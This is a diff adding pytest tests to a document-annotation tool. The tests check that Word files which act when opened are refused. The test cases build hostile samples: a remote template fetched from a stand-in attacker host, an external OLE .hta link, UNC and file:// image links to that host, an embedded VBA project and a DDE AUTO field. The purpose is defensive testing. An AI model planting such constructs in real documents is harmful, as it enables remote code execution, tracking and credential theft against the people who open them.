@@ -197,6 +197,63 @@ def test_a_signed_file_is_not_marked() -> None:
     assert mark(signed, "docx", [Marked(Place(), "请改正")]) is None
 
 
+RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+EVIL = "https://evil.example.cn/t.dotm"
+
+
+def related(part: str, kind: str, target: str, external: bool = True) -> bytes:
+    """The application form with one more relationship of its document, or the relationships of another part."""
+    found = {name: content.decode("latin-1") for name, content in parts(FILES["附件4.docx"]).items()}
+    mode = ' TargetMode="External"' if external else ""
+    link = f'<Relationship Id="rId901" Type="{RELATED}{kind}" Target="{target}"{mode}/></Relationships>'
+    empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+    found[part] = found.get(part, empty).replace("</Relationships>", link)
+    return zipped({name: content.encode("latin-1") for name, content in found.items()})
+
+
+DOCUMENT, SETTINGS = "word/_rels/document.xml.rels", "word/_rels/settings.xml.rels"
+
+
+@pytest.mark.parametrize(
+    ("part", "kind", "target", "external"),
+    [
+        (DOCUMENT, "vbaProject", "vbaProject.bin", False),
+        (DOCUMENT, "oleObject", "embeddings/oleObject1.bin", False),
+        (DOCUMENT, "oleObject", "https://evil.example.cn/x.hta", True),
+        (DOCUMENT, "image", "https://evil.example.cn/seen.png", True),
+        (DOCUMENT, "image", "\\\\evil.example.cn\\share\\seen.png", True),
+        (DOCUMENT, "image", "file://evil.example.cn/seen.png", True),
+        (SETTINGS, "attachedTemplate", EVIL, True),
+        ("xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", False),
+    ],
+)
+def test_a_file_that_acts_when_opened_is_not_sent_on(part: str, kind: str, target: str, external: bool) -> None:
+    assert mark(related(part, kind, target, external), "docx", [Marked(Place(), "请改正")]) is None
+
+
+@pytest.mark.parametrize(
+    ("part", "kind", "target"),
+    [
+        (DOCUMENT, "hyperlink", "https://example.cn/1"),
+        (DOCUMENT, "image", "file:///C:\\Users\\a\\Temp\\wps1.jpg"),
+        (SETTINGS, "attachedTemplate", "Normal.dotm"),
+    ],
+)
+def test_links_that_lead_no_machine_anywhere_are_harmless(part: str, kind: str, target: str) -> None:
+    assert mark(related(part, kind, target), "docx", [Marked(Place(), "请改正")]) is not None
+
+
+@pytest.mark.parametrize(("words", "harmless"), [(("DDE", "AUTO c:\\\\x"), False), (("PAGE ", "of AddDE"), True)])
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_a_field_that_asks_another_program_is_not_sent_on(
+    words: tuple[str, ...], harmless: bool, encoding: str
+) -> None:
+    runs = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
+    footer = f'<w:ftr xmlns:w="{W[1:-1]}"><w:p>{runs}</w:p></w:ftr>'
+    content = zipped({**parts(FILES["附件4.docx"]), "word/footer9.xml": footer.encode(encoding)})
+    assert (mark(content, "docx", [Marked(Place(), "请改正")]) is not None) == harmless
+
+
 def test_a_strict_file_is_not_marked() -> None:
     strict = made(table(cell("项目名称") + cell("书屋")), strict=True)
     assert mark(strict, "docx", [Marked(in_table(0, 1), "请改正")]) is None
